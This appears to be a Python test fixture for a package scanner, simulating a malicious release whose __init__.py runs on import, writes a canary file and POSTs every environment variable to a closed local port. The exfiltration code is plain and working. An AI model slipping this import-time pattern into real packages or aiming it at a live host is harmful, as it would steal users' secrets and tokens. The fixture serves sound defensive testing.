# Test fixture: a release whose __init__.py starts sending the environment
# away on import, in plain code: no encoded blob, no install-time code. It
# writes a canary file, and its address is a closed local port.
import json
import os
import pathlib
import urllib.request


def add(a, b):
    return a + b


def _report():
    canary = os.environ.get("WARDEN_CANARY_DIR")
    if canary:
        pathlib.Path(canary, "env-beacon").write_text("ran on import\n")
    body = json.dumps(dict(os.environ)).encode()
    request = urllib.request.Request("http://127.0.0.1:9/collect", data=body)
    try:
        urllib.request.urlopen(request, timeout=1)
    except OSError:
        pass


_report()
